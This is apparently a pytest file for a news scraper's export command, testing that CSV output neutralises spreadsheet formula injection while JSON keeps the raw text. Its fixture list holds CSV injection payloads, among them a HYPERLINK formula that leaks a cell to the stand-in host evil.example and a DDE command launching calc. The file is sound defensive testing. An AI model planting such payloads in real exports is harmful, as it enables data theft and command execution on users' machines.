"""CSV exports cannot smuggle spreadsheet formulas.

A headline such as `=HYPERLINK("http://evil.example","Click")` is scraped
text; opened from a CSV file a spreadsheet would run it as a formula.  CSV
cells that begin with `=`, `+`, `-`, `@`, a tab or a carriage return are
prefixed with `'` by default (as OWASP recommends); `--raw-csv` exports them
as they are, and JSON and NDJSON always keep the text as is.
"""

from __future__ import annotations

import csv
import io
import json

import pytest

from tests.helpers import Page, tidings, write_config
from tests.pages import DRUPAL_SOURCE, Item, Listing

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1 is the new budget",
    "-2+3 at the summit",
]
PLAIN = "Ministers sign water accord = progress"


@pytest.fixture
def archive(tmp_path, site):
    items = [Item(text, [f"{text} (summary)"], f"/news/{n}", "2026-01-0{}".format(n + 1)) for n, text in enumerate(FORMULAS)]
    items.append(Item(PLAIN, ["=1+1 starts this summary"], "/news/plain", "2026-01-09"))
    site.pages["/news"] = Page(Listing(items).render())
    config = write_config(tmp_path / "t.toml", [{"name": "news", "url": site.url("/news"), **DRUPAL_SOURCE}])
    db = tmp_path / "archive.db"
    result = tidings("run", "--config", str(config), "--db", str(db))
    assert result.code == 0, result.stderr
    return db


def export(db, folder, *args: str, name: str) -> str:
    out = folder / name
    result = tidings("export", "--db", str(db), *args, "-o", str(out))
    assert result.code == 0, result.stderr
    return out.read_bytes().decode("utf-8")


def test_csv_cells_that_start_a_formula_are_neutralised(archive, tmp_path):
    rows = list(csv.DictReader(io.StringIO(export(archive, tmp_path, name="items.csv"), newline="")))
    headlines = {r["headline"] for r in rows}
    assert headlines == {"'" + f for f in FORMULAS} | {PLAIN}
    summaries = {r["summary"] for r in rows}
    assert "'=1+1 starts this summary" in summaries
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
    versions = list(csv.DictReader(io.StringIO(export(archive, tmp_path, "--versions", name="v.csv"), newline="")))
    assert {r["headline"] for r in versions} == headlines


def test_raw_csv_and_json_keep_the_text_as_is(archive, tmp_path):
    raw = list(csv.DictReader(io.StringIO(export(archive, tmp_path, "--raw-csv", name="raw.csv"), newline="")))
    assert {r["headline"] for r in raw} == set(FORMULAS) | {PLAIN}
    assert {r["headline"] for r in json.loads(export(archive, tmp_path, name="items.json"))} == set(FORMULAS) | {PLAIN}
    lines = export(archive, tmp_path, name="items.ndjson").splitlines()
    assert {json.loads(line)["headline"] for line in lines} == set(FORMULAS) | {PLAIN}


def test_raw_csv_is_for_csv_only(archive):
    result = tidings("export", "--db", str(archive), "--format", "json", "--raw-csv")
    assert result.code == 2 and "--raw-csv" in result.stderr and "Traceback" not in result.stderr
